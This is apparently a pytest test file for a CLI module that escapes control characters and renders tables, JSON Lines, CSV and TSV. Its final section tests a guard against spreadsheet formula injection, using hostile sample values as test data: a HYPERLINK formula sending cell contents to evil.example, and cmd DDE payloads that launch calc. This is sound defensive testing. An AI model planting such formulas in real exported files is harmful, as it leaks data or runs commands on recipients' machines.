"""blo/cli/tables.py: escaping, widths, tables that fit, JSON Lines, CSV and TSV."""

from __future__ import annotations

import csv
import io
import json

import pytest

from blo.cli.tables import (
    column_widths,
    csv_text,
    display_width,
    escape,
    formula_guard,
    json_lines,
    json_text,
    render_table,
    truncate,
    tsv_lines,
    unique_names,
)

BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
        "\u2069", "\u200e", "\u200f", "\u061c"]


@pytest.mark.parametrize(("raw", "shown"), [
    ("a\nb", "a\\nb"), ("a\r\nb", "a\\r\\nb"), ("a\tb", "a\\tb"), ("\x00", "\\x00"),
    ("\x1b[31mred", "\\x1b[31mred"), ("\x7f", "\\x7f"), ("\x85", "\\x85"), ("\x9b", "\\x9b"),
    ("\u2028\u2029", "\\u2028\\u2029"), ("evil\u202etxt.exe", "evil\\u202etxt.exe"),
])
def test_escape_shows_control_characters_as_escapes(raw: str, shown: str) -> None:
    assert escape(raw) == shown


@pytest.mark.parametrize("c", BIDI)
def test_every_bidi_control_is_escaped(c: str) -> None:
    assert escape(f"x{c}y") == f"x\\u{ord(c):04x}y"


def test_escape_leaves_ordinary_text_alone() -> None:
    text = "Нижний Пяндж — 12,5 кг ✓ 中文 e\u0301 back\\slash"
    assert escape(text) == text


def test_display_width_counts_terminal_columns() -> None:
    assert display_width("abc") == 3
    assert display_width("Пяндж") == 5
    assert display_width("中文") == 4
    assert display_width("e\u0301") == 1  # a combining accent takes no column


def test_truncate_cuts_to_the_width_with_an_ellipsis() -> None:
    assert truncate("abcdef", 6) == "abcdef"
    assert truncate("abcdefg", 6) == "abcde…"
    assert display_width(truncate("中文中文", 5)) <= 5
    assert truncate("中文中文", 5) == "中文…"


def test_column_widths_cut_the_widest_columns_first() -> None:
    assert column_widths([5, 10, 50], [4, 4, 4], None) == [5, 10, 50]
    assert column_widths([5, 10, 50], [4, 4, 4], 100) == [5, 10, 50]
    # 40 columns, 4 of them gaps: 36 for cells; only the widest column is cut
    assert column_widths([5, 10, 50], [4, 4, 4], 40) == [5, 10, 21]
    # tighter: the two wide ones share the cap, the narrow one keeps its width
    w = column_widths([5, 30, 50], [4, 4, 4], 30)
    assert w[0] == 5 and sum(w) + 4 <= 30 and w[1] == w[2]
    # never below a floor (the terminal wraps instead)
    assert column_widths([20, 20], [8, 8], 5) == [8, 8]


def test_a_table_has_headers_a_rule_and_one_line_per_row() -> None:
    lines = render_table(["id", "details"], [[1, "one"], [22, "two\nlines"]], None)
    assert lines == ["id  details",
                     "--  ----------",
                     "1   one",
                     "22  two\\nlines"]


def test_a_table_never_breaks_on_control_characters() -> None:
    rows = [["a\nb\rc\x00d\u202ee\x85", 1], ["\u2066x\u2069", None]]
    lines = render_table(["text", "n"], rows, None)
    assert len(lines) == 4
    joined = "\n".join(lines)
    for c in "\r\x00\u202e\x85\u2066\u2069":
        assert c not in joined
    assert "a\\nb\\rc\\x00d\\u202ee\\x85" in lines[2]
    assert lines[3] == "\\u2066x\\u2069"  # NULL is an empty cell, trailing spaces stripped


def test_a_table_fits_the_width_and_cuts_long_cells_with_an_ellipsis() -> None:
    long = "x" * 200
    rows = [["2024-05-01 12:00:00", "not_json", long], ["2024-05-01 12:00:01", "invalid", "ok"]]
    lines = render_table(["failed_at", "reason", "details"], rows, 60)
    assert all(display_width(line) <= 60 for line in lines), lines
    assert lines[2].startswith("2024-05-01 12:00:00  not_json  ") and lines[2].endswith("…")
    wide = render_table(["failed_at", "reason", "details"], rows, None)
    assert wide[2].endswith(long)


def test_a_table_with_wide_characters_stays_aligned() -> None:
    lines = render_table(["name", "n"], [["中文", 1], ["ab", 2]], None)
    columns = [display_width(line[:line.index(str(k))])  # where the terminal shows k
               for k, line in zip((1, 2), lines[2:], strict=True)]
    assert columns == [6, 6]


def test_json_lines_are_objects_with_named_keys_and_raw_values() -> None:
    lines = json_lines(["station", "n", "tags", "note"],
                       [["KZ-X", 3, ["a", "b"], None], ["KG-\u202eY", 0, [], "a\nb\x00"]])
    docs = [json.loads(line) for line in lines]
    assert docs == [{"station": "KZ-X", "n": 3, "tags": ["a", "b"], "note": None},
                    {"station": "KG-\u202eY", "n": 0, "tags": [], "note": "a\nb\x00"}]
    assert all("\n" not in line and "\u202e" not in line for line in lines)
    assert list(docs[0]) == ["station", "n", "tags", "note"]  # column order


def test_json_text_keeps_cyrillic_readable_and_escapes_what_a_terminal_acts_on() -> None:
    text = json_text({"name": "Нур Жолы", "x": "\x7f\x9b\u2028\u200f"})
    assert "Нур Жолы" in text
    assert "\\u007f\\u009b\\u2028\\u200f" in text
    assert json.loads(text)["x"] == "\x7f\x9b\u2028\u200f"


def test_repeated_column_names_get_suffixes() -> None:
    assert unique_names(["1", "1", "a", "1"]) == ["1", "1_2", "a", "1_3"]
    assert list(json.loads(json_lines(["1", "1"], [[1, 2]])[0])) == ["1", "1_2"]


def test_csv_has_a_header_and_quotes_what_needs_quoting() -> None:
    text = csv_text(["station", "details", "n", "tags"],
                    [["KZ-X", 'said "no", twice\nthen left', 1, ["a", "b"]],
                     ["KG-Y", None, 2.5, []]])
    assert text.splitlines()[0] == "station,details,n,tags"
    assert '"said ""no"", twice\nthen left"' in text
    assert list(csv.reader(io.StringIO(text))) == [
        ["station", "details", "n", "tags"],
        ["KZ-X", 'said "no", twice\nthen left', "1", '["a", "b"]'],
        ["KG-Y", "", "2.5", "[]"]]


def test_tsv_escapes_as_clickhouse_does() -> None:
    assert tsv_lines([["a\tb", "c\nd", "e\\f", None, 1]]) == ["a\\tb\tc\\nd\te\\\\f\t\\N\t1"]


# -- spreadsheet formulas (OWASP CSV injection) ----------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("raw", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("-", "'-"), ("+", "'+"), ("=", "'="), ("-inf", "'-inf"), ("-1-1", "'-1-1"),
    ("-3.5\n=1", "'-3.5\n=1"), ("-\u0663", "'-\u0663"),  # an Arabic-Indic digit: not a number
])
def test_text_that_a_spreadsheet_would_run_gets_a_quote(raw: str, written: str) -> None:
    assert formula_guard(raw) == written


@pytest.mark.parametrize("value", [
    -3.5, -3, 0, 2.5, None, True, ["=1", "-2"], (), "", "plain", "KZ-NURZHOL", "a=b", " =1",
    "'=already", "-3.5", "+7", "-1e-5", "-.5", "+12.", "-00042",  # numbers as text stay numbers
])
def test_numbers_and_other_values_stay_as_they_are(value: object) -> None:
    assert formula_guard(value) == value


def test_csv_and_tsv_guard_formulas_unless_told_not_to() -> None:
    rows = [[HYPERLINK, -3.5, "-3.5", "@x", None]]
    text = csv_text(["=name", "-1"], rows)
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=name", "-1"], ["'" + HYPERLINK, "-3.5", "-3.5", "'@x", ""]]
    assert list(csv.reader(io.StringIO(csv_text(["=name", "-1"], rows, guard=False)))) == [
        ["=name", "-1"], [HYPERLINK, "-3.5", "-3.5", "@x", ""]]
    # the quote goes in front of the value; TabSeparated escaping comes after
    assert tsv_lines([["\t=1", -3.5, None]]) == ["'\\t=1\t-3.5\t\\N"]
    assert tsv_lines([["\t=1", -3.5, None]], guard=False) == ["\\t=1\t-3.5\t\\N"]
